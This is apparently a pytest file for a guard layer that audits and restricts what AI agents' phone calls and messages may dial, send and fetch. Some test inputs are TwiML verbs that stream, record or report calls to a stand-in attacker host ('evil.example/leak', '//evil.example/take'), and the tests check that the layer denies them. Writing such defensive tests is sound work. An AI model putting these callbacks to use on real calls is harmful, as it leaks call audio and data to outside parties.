"""What calls and scheduled messages of agents do by themselves: judged, and in the audit before it is done."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

import pytest
from test_sdk_agents import STAFF, STRANGER, Agent, send_only

from http_server import Handler, serving

FRIEND = "+14155550102"
ANSWER, HANG_UP = {"action": "answer"}, {"action": "hangup"}
TRUSTED: dict[str, Any] = {"to": {"allow": [STAFF, FRIEND]}, "urls": {"documents": "any"}}
FINAL = {"completed", "busy", "failed", "no-answer", "canceled"}
Eventually = Callable[[Callable[[], Any]], bool]


@pytest.fixture(scope="module")
def live(start_module: Any) -> Any:
    live = start_module(sim_speech_rate="100000", sim_latency_ms="1")
    for number in (STAFF, FRIEND):
        script(live, number, ANSWER, {"action": "hangup", "after_s": 3})
    return live


@pytest.fixture(scope="module")
def agent(live: Any) -> Agent:
    return Agent(live, send_only(**TRUSTED))


@pytest.fixture
def leading() -> Iterator[str]:
    """Run a host that leads elsewhere: to what its query says."""

    class Leading(Handler):
        def do_POST(self) -> None:
            self.send_response(302)
            self.send_header("Location", self.path.partition("?to=")[2])
            self.send_header("Content-Length", "0")
            self.end_headers()

    with serving(Leading) as port:
        yield f"http://localhost:{port}/"


def script(live: Any, number: str, *steps: dict[str, Any]) -> None:
    live.control("PUT", f"handsets/{number.replace('+', '%2B')}", {"condition": "on", "voice_script": list(steps)})


class Placed:
    """A call that an agent placed and that has ended, and what became of it."""

    def __init__(self, agent: Agent, eventually: Eventually, verbs: str = "", **given: str) -> None:
        given = given or {"twiml": f"<Response>{verbs}</Response>"}
        self.agent = agent
        self.sid = agent.client.calls.create(to=STAFF, from_=agent.live.number, **given).sid
        assert eventually(lambda: agent.live.client().calls(self.sid).fetch().status in FINAL)

    def judgements(self) -> list[dict[str, Any]]:
        """Return the rows of what the call did, oldest first."""
        rows = self.agent.live.control("GET", f"audit?agent={self.agent.name}&page_size=1000")["audit"]
        [decision_id] = [row["id"] for row in rows if row["kind"] == "outcome" and row["sid"] == self.sid]
        told = self.agent.live.control("GET", f"audit?id={decision_id}")["audit"][::-1]
        assert [row["kind"] for row in told[:2]] == ["decision", "outcome"]
        assert {row["kind"] for row in told[2:]} <= {"judgement"}
        return [row for row in told[2:] if row["sid"] == self.sid]

    def sentences(self) -> list[str]:
        return [row["sentence"] for row in self.judgements()]


def test_whom_a_call_dials_stands_beside_the_decision_that_let_it(agent: Agent, eventually: Eventually) -> None:
    placed = Placed(agent, eventually, f"<Dial>{STRANGER}</Dial><Dial>{FRIEND}</Dial>")
    refused, allowed = placed.judgements()
    assert refused["sentence"] == (
        f"A call that {agent.name} placed was not let dial on to +1 900 ••• 0199:"
        " +1 900 ••• 0199 is not among the recipients it may reach."
    )
    assert (refused["decision"], refused["rule"], refused["reason_code"]) == ("deny", "rules[0].to.allow", "recipient")
    assert allowed["sentence"] == (
        f"A call that {agent.name} placed was let dial on to +1 415 ••• 0102: its access to voice is send."
    )


@pytest.mark.parametrize(
    "noun", [f"<Number>{STRANGER}</Number>", "<Sip>sip:bob@evil.example</Sip>", "<Client>eve</Client>"]
)
def test_no_noun_of_a_dial_goes_unjudged(agent: Agent, eventually: Eventually, noun: str) -> None:
    [row] = Placed(agent, eventually, f"<Dial>{noun}</Dial>").judgements()
    assert (row["decision"], row["reason_code"]) == ("deny", "recipient")


def test_documents_and_where_they_lead_are_judged(live: Any, eventually: Eventually, application: Any) -> None:
    bound = Agent(live, send_only(to={"allow": [STAFF, FRIEND]}, urls={"hosts": ["127.0.0.1"]}))
    whisper = f'<Dial><Number url="/whisper">{FRIEND}</Number></Dial>'
    application.answers["/begins"] = (200, "text/xml", f"<Response>{whisper}</Response>".encode())
    application.answers["/whisper"] = (
        200,
        "text/xml",
        b"<Response><Redirect>http://localhost:9/x</Redirect></Response>",
    )
    placed = Placed(bound, eventually, url=f"{application.url}/begins")
    told = [sentence.partition(" was ")[2].partition(":")[0] for sentence in placed.sentences()]
    assert told == [
        "let ask 127.0.0.1 for a document",
        "let dial on to +1 415 ••• 0102",
        "let ask 127.0.0.1 for a document",
        "not let run a document that leads to localhost",
    ]


@pytest.mark.parametrize(
    "verb",
    [
        '<Start><Stream url="wss://evil.example/"/></Start>',
        '<Record recordingStatusCallback="//evil.example/take"/>',
        "<Play>http://evil.example/leak</Play>",
        f'<Dial><Number statusCallback=" http://evil.example/">{FRIEND}</Number></Dial>',
    ],
)
def test_a_document_of_a_trusted_host_names_no_other_host(
    live: Any, eventually: Eventually, application: Any, verb: str
) -> None:
    bound = Agent(live, send_only(to={"allow": [STAFF, FRIEND]}, urls={"hosts": ["127.0.0.1"]}))
    application.answers["/names"] = (200, "text/xml", f"<Response>{verb}</Response>".encode())
    rows = Placed(bound, eventually, url=f"{application.url}/names").judgements()
    assert [(row["decision"], row["reason_code"]) for row in rows] == [("allow", "level"), ("deny", "url")]


def test_a_host_that_answers_with_a_redirect_is_judged_where_it_leads(
    live: Any, eventually: Eventually, leading: str, application: Any
) -> None:
    bound = Agent(live, send_only(to={"allow": [STAFF]}, urls={"hosts": ["localhost"]}))
    application.answers["/there"] = (200, "text/xml", b"<Response/>")
    rows = Placed(bound, eventually, url=f"{leading}?to={application.url}/there").judgements()
    assert [(row["decision"], row["reason_code"]) for row in rows] == [("allow", "level"), ("deny", "url")]


def test_a_call_sends_what_its_agent_might_send(agent: Agent, eventually: Eventually) -> None:
    before = len(agent.live.inbox(FRIEND))
    placed = Placed(agent, eventually, f'<Sms to="{STRANGER}">Hello</Sms><Sms to="{FRIEND}">Hello</Sms>')
    assert [row["decision"] for row in placed.judgements()] == ["deny", "allow"]
    assert placed.sentences()[0].startswith(
        f"A call that {agent.name} placed was not let send a message to +1 900 ••• 0199:"
    )
    assert eventually(lambda: len(agent.live.inbox(FRIEND)) == before + 1)
    assert agent.live.inbox(STRANGER) == []


@pytest.mark.parametrize(
    ("rule", "reason"),
    [
        ({"body": {"deny": ["secret"]}}, "content"),
        ({"from": ["+12015550199"]}, "sender"),
        ({"spend": {"per_call": "0.001"}}, "cost"),
    ],
)
def test_a_message_of_a_call_is_held_to_the_rules_of_messages(
    live: Any, eventually: Eventually, rule: dict[str, Any], reason: str
) -> None:
    rules = [{"for": "messaging.create", **rule}, {"for": "voice", **TRUSTED}]
    bound = Agent(live, {"areas": {"messaging": "send", "voice": "send"}, "rules": rules})
    [row] = Placed(bound, eventually, f'<Sms to="{FRIEND}">A secret</Sms>').judgements()
    assert (row["operation"], row["reason_code"]) == ("CreateMessage", reason)


def test_messages_of_calls_take_places_in_the_counts_of_messages(live: Any, eventually: Eventually) -> None:
    rules = [{"for": "messaging.create", "daily": 2}, {"for": "voice", **TRUSTED}]
    bound = Agent(live, {"areas": {"messaging": "send", "voice": "send"}, "rules": rules})
    rows = Placed(bound, eventually, f'<Sms to="{FRIEND}">One</Sms>' * 3).judgements()
    assert [row["reason_code"] for row in rows] == ["level", "level", "budget"]
    bound.refused(bound.send)


def test_a_call_of_an_agent_without_messaging_sends_nothing(live: Any, eventually: Eventually) -> None:
    bound = Agent(live, {"areas": {"voice": "send"}})
    [row] = Placed(bound, eventually, f'<Sms to="{FRIEND}">One</Sms>').judgements()
    assert (row["decision"], row["rule"]) == ("deny", "areas.messaging")


@pytest.mark.parametrize("place", ["<Conference>room-{}</Conference>", "<Queue>line-{}</Queue>"])
def test_nobody_is_met_in_a_room_or_a_queue_who_may_not_be_called(
    live: Any, agent: Agent, eventually: Eventually, place: str
) -> None:
    owner, name = live.client(), f"{agent.name}-{place[1:3]}"
    enter = f"<Enqueue>line-{name}</Enqueue>" if "Queue" in place else f"<Dial>{place.format(name)}</Dial>"
    script(live, STRANGER, ANSWER, {"action": "hangup", "after_s": 30})
    other = owner.calls.create(to=STRANGER, from_=live.number, twiml=f"<Response>{enter}</Response>")
    told = f"calls/{other.sid}/transcript"
    assert eventually(lambda: any("music" in each["text"] for each in live.control("GET", told)["transcript"]))
    [row] = Placed(agent, eventually, f"<Dial>{place.format(name)}</Dial>").judgements()
    assert (row["decision"], row["reason_code"]) == ("deny", "recipient")
    assert "be connected with +1 900 ••• 0199" in row["sentence"]
    owner.calls(other.sid).update(status="completed")


def test_a_dial_that_was_refused_gives_no_money_back(live: Any, eventually: Eventually) -> None:
    bound = Agent(live, send_only(**TRUSTED) | {"budgets": {"usd_per_day": "0.03"}})  # two calls of 0.014
    Placed(bound, eventually, f"<Dial>{STRANGER}</Dial>" * 5)
    Placed(bound, eventually, "<Hangup/>")
    bound.refused(lambda: bound.client.calls.create(to=STAFF, from_=live.number, twiml="<Response/>"))


def test_in_observe_mode_a_deed_passes_and_is_told(live: Any, eventually: Eventually) -> None:
    bound = Agent(live, send_only(**TRUSTED) | {"mode": "observe"})
    script(live, "+14155550109", ANSWER, HANG_UP)
    [row] = Placed(bound, eventually, "<Dial>+14155550109</Dial>").judgements()
    assert row["decision"] == "would_deny"
    assert "was let dial on to +1 415 ••• 0109: though " in row["sentence"]


# Who comes later


def entering(live: Any, eventually: Eventually, client: Any, to: str, verb: str) -> str:
    """Place a call that enters a room or a queue, and return it once it is there."""
    script(live, to, ANSWER, {"action": "hangup", "after_s": 60})
    made = client.calls.create(to=to, from_=live.number, twiml=f"<Response>{verb}<Say>Alone</Say></Response>")
    return str(made.sid)


def end(live: Any, *sids: str) -> None:
    """End calls, also one that has ended already."""
    for sid in sids:
        live.raw("POST", f"/2010-04-01/Accounts/{live.account_sid}/Calls/{sid}.json", b"Status=completed")


def said(live: Any, sid: str) -> list[str]:
    return [each["text"] for each in live.control("GET", f"calls/{sid}/transcript")["transcript"]]


@pytest.mark.parametrize("door", ["Calls", "Participants"])
def test_a_call_of_an_agent_leaves_a_room_that_somebody_enters_who_may_not_be_called(
    live: Any, agent: Agent, eventually: Eventually, door: str
) -> None:
    owner, name = live.client(), f"{agent.name}-{door}"
    verb = f"<Dial><Conference>{name}</Conference></Dial>"
    if door == "Calls":
        sid = entering(live, eventually, agent.client, STAFF, verb)
    else:
        script(live, STAFF, ANSWER, {"action": "hangup", "after_s": 60})
        sid = agent.client.conferences(name).participants.create(to=STAFF, from_=live.number).call_sid
    assert eventually(lambda: any("music" in each for each in said(live, sid)))
    other = entering(live, eventually, owner, STRANGER, verb)
    if door == "Calls":
        assert eventually(lambda: "Alone" in said(live, sid))
    else:
        assert eventually(lambda: owner.calls(sid).fetch().status == "completed")
    assert any("70051" in each and "+1 900 ••• 0199" in each for each in said(live, sid))
    [room] = eventually(lambda: owner.conferences.list(friendly_name=name, status="init"))
    assert eventually(lambda: [each.call_sid for each in room.participants.list()] == [other])
    rows = live.control("GET", f"audit?agent={agent.name}&decision=deny&page_size=1")["audit"]
    assert (rows[0]["kind"], rows[0]["sid"]) == ("judgement", sid)
    end(live, sid, other)


def test_who_may_be_called_enters_a_room_with_a_call_of_an_agent(
    live: Any, agent: Agent, eventually: Eventually
) -> None:
    owner, name = live.client(), f"{agent.name}-friends"
    verb = f"<Dial><Conference>{name}</Conference></Dial>"
    sids = [entering(live, eventually, client, to, verb) for client, to in ((agent.client, STAFF), (owner, FRIEND))]
    [room] = eventually(lambda: owner.conferences.list(friendly_name=name, status="in-progress"))
    assert {each.call_sid for each in room.participants.list()} == set(sids)
    end(live, *sids)


def test_a_waiting_call_of_an_agent_is_not_taken_by_who_may_not_be_called(
    live: Any, agent: Agent, eventually: Eventually
) -> None:
    owner, name = live.client(), f"{agent.name}-later"
    sid = entering(live, eventually, agent.client, STAFF, f"<Enqueue>{name}</Enqueue>")
    assert eventually(lambda: any("music" in each for each in said(live, sid)))
    other = entering(live, eventually, owner, STRANGER, f"<Dial timeout='1'><Queue>{name}</Queue></Dial>")
    assert eventually(lambda: "Alone" in said(live, sid))
    assert any("70051" in each for each in said(live, sid))
    end(live, sid, other)
